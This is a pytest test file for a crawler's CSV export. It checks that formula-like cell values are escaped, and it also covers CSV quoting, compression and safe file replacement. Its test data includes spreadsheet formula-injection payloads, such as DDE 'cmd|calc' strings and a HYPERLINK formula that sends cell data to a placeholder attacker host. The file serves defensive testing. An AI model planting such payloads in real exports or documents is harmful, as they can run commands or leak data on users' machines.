"""What pages say is text to a spreadsheet, whatever it looks like; and no number becomes text for that."""

from __future__ import annotations

import csv
import gzip
import io
import json

import msgspec
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from crawler.cli import export as command
from crawler.dataset import cells
from crawler.dataset.cells import Rows, columns_of, is_formula
from crawler.dataset.lines import Lines
from crawler.errors import CrawlerError

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\ttext",
    "\rtext",
    " =1+1",
    "\u00a0=1+1",
    "\u3000\u200b\ufeff=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0dcmd",
    "\uff20SUM(1)",
    "\ufe661+1",
    "=",
    "-",
    "--1",
    "-5 apples",
    "+1 555",
]
HARMLESS = [
    "",
    "text",
    "-5",
    "+3.2",
    "-1,234.50",
    "-.5",
    "+1e-9",
    "5-3",
    "a=b",
    "'=1",
    "<b>",
    "價",
    "(=1)",
    "\u2212",
    " ",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_text(text):
    assert is_formula(text)
    assert parsed(Rows(["a"]).rows([msgspec.json.encode({"a": text})])) == [[f"'{text}"]]


@pytest.mark.parametrize("blank", ["\t", "\n", "\r"])
def test_so_is_a_formula_after_what_parts_cells(blank):
    assert is_formula(f"{blank}=1+1")
    assert parsed(Rows(["a"]).rows([msgspec.json.encode({"a": f"{blank}=1+1"})])) == [[f"'{blank}'=1+1"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_it_would_not_run_stays_as_it_is(text):
    assert not is_formula(text)


@pytest.mark.parametrize("between", [";", "\t", "\n", "\r", "\r\n", ';"', "; "])
def test_nor_does_one_that_parts_cells_elsewhere_find_any(between):
    """As spreadsheets do at a semicolon where numbers have a comma: to them this is three cells."""
    text = f"price{between}=cmd|' /C calc'!A0;1"
    [row] = Rows(["a"]).rows([msgspec.json.encode({"a": text})])
    [cell] = parsed([row])[0]
    assert cell.replace("'", "") == text.replace("'", "")
    for reader in (csv.reader([row.decode()], delimiter=";"), csv.reader([row.decode()], delimiter="\t")):
        assert not [one for cells in reader for part in cells for one in part.splitlines() if one.lstrip()[:1] == "="]


@pytest.mark.parametrize("text", ["a;b", "a;-5;+3.2", "5;-1,234.50\n-7", "a;", "\n", ";;", "a\n\nb=c;d-e"])
def test_text_of_several_parts_stays_as_it_is_if_none_is_a_formula(text):
    assert parsed(Rows(["a"]).rows([msgspec.json.encode({"a": text})])) == [[text]]


def test_lists_and_objects_mean_what_they_did():
    value = ["a;=cmd|' /C calc'!A0;b", 'a; \uff1d1;-5;"=1', {"k;@SUM(1)": ";+1"}]
    [[cell]] = parsed(Rows(["a"]).rows([msgspec.json.encode({"a": value})]))
    assert msgspec.json.decode(cell) == value
    assert not [part for part in cell.split(";")[1:] if is_formula(part)]


def parsed(rows):
    return list(csv.reader(io.StringIO(b"".join(row + b"\n" for row in rows).decode(), newline=""), strict=True))


def test_values_are_told_apart_by_their_kind():
    line = b'{"s":"a,\\"b\\"\\nc\\r","i":-5,'
    line += b'"f":1.10,"big":123456789012345678901,"t":true,"n":null,"l":["=1",2],"o":{"=":1}}'
    names = columns_of([line], "file").names
    assert names == ("s", "i", "f", "big", "t", "n", "l", "o")
    [row] = parsed(Rows(names).rows([line]))
    assert row == ['a,"b"\nc\r', "-5", "1.10", "123456789012345678901", "true", "", '["=1",2]', '{"=":1}']


def test_rows_end_as_rfc_4180_says():
    rows = Rows(("a", "b"))
    assert rows.header() == b"a,b\r"
    assert rows.rows([b'{"b":1}', b"{}"]) == [b",1\r", b",\r"]


def test_columns_are_all_fields_in_the_order_of_their_first_records():
    lines = [b'{"b":1}', b'{"a":1,"b":2}', b'{"c":null}']
    assert columns_of(lines, "file") == (("b", "a", "c"), 3)


@pytest.mark.parametrize("value", [b'"\xff"', b'["\xff"]'])
def test_a_record_that_is_damaged_within_is_told_of(crawl, tmp_path, value):
    with (crawl / "pages.jsonl").open("ab") as file:
        file.write(b'{"url":"https://a.test/","title":' + value + b"}\n")
    with pytest.raises(CrawlerError, match=r"pages\.jsonl:6: not a record: "):
        export(crawl, "pages", "--to", tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()


def test_names_of_columns_are_cells_too():
    assert Rows(["=1+1", "fine"]).header() == b"'=1+1,fine\r"


def test_more_fields_than_a_table_can_have_are_refused(monkeypatch):
    monkeypatch.setattr(cells, "MAX_COLUMNS", 3)
    with pytest.raises(CrawlerError, match="over 3 different fields"):
        columns_of([b'{"a":1,"b":2}', b'{"c":1,"d":2}'], "file")


@pytest.fixture
def crawl(tmp_path):
    folder = tmp_path / "crawl"
    folder.mkdir()
    records = [{"url": f"https://a.test/{n}", "title": "=1+1", "n": -n} for n in range(5)]
    (folder / "pages.jsonl").write_bytes(b"".join(msgspec.json.encode(one) + b"\n" for one in records))
    return folder


def export(*arguments):
    return CliRunner().invoke(command.export, [str(argument) for argument in arguments], catch_exceptions=False)


@pytest.mark.parametrize("name", ["out.csv", "out.csv.gz", "out.csv.zst"])
def test_export_writes_csv_packed_as_the_name_says(crawl, tmp_path, name):
    path = tmp_path / name
    done = export(crawl, "pages", "--to", path)
    assert done.stderr == "5 records\n"
    as_text = list(Lines(path))
    assert as_text[:3] == [b"url,title,n\r", b"https://a.test/0,'=1+1,0\r", b"https://a.test/1,'=1+1,-1\r"]
    if name.endswith(".gz"):
        assert gzip.decompress(path.read_bytes()).count(b"\r\n") == 6


def test_export_leaves_cells_raw_where_that_is_asked_for(crawl, tmp_path):
    export(crawl, "pages", "--to", tmp_path / "out.csv", "--raw-cells")
    assert b"/3,=1+1,-3\r\n" in (tmp_path / "out.csv").read_bytes()


def test_export_drops_doubles_from_csv_too(crawl, tmp_path):
    export(crawl, "pages", "--to", tmp_path / "out.csv", "--unique", "title")
    assert (tmp_path / "out.csv").read_bytes() == b"url,title,n\r\nhttps://a.test/0,'=1+1,0\r\n"


def test_an_export_of_no_records_is_an_empty_file(crawl, tmp_path):
    (crawl / "pages.jsonl").write_bytes(b"")
    export(crawl, "pages", "--to", tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_bytes() == b""


@pytest.mark.parametrize("key", [(), ("--unique", "url")])
def test_records_that_a_crawl_adds_meanwhile_are_left_for_another_time(crawl, tmp_path, monkeypatch, key):
    """They may have fields that the header does not."""
    header = Rows.header

    def late(rows):
        with (crawl / "pages.jsonl").open("ab") as file:
            file.write(b'{"url":"https://a.test/","title":"x","late":1}\n')
        return header(rows)

    monkeypatch.setattr(Rows, "header", late)
    done = export(crawl, "pages", "--to", tmp_path / "out.csv", *key)
    assert done.stderr.startswith("5 records")
    assert (tmp_path / "out.csv").read_bytes().count(b"\r\n") == 6


def test_csv_that_fails_half_way_leaves_the_older_file(crawl, tmp_path, monkeypatch):
    out = tmp_path / "out.csv"
    out.write_text("older\n")

    def fail(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Rows, "rows", fail)
    with pytest.raises(CrawlerError, match="cannot be written: No space left"):
        export(crawl, "pages", "--to", out)
    assert out.read_text() == "older\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["crawl", "out.csv"]


@given(st.lists(st.lists(st.text('a," \r\n;é'), min_size=2, max_size=2), max_size=5), st.sampled_from((1, 2)))
def test_rows_are_those_that_the_standard_library_would_write(rows, width):
    out = io.StringIO(newline="")
    csv.writer(out).writerows(row[:width] for row in rows)
    lines = [json.dumps(dict(zip("ab", row, strict=True))).encode() for row in rows]
    made = Rows("ab"[:width], raw_cells=True).rows(lines)
    assert b"".join(line + b"\n" for line in made) == out.getvalue().encode()
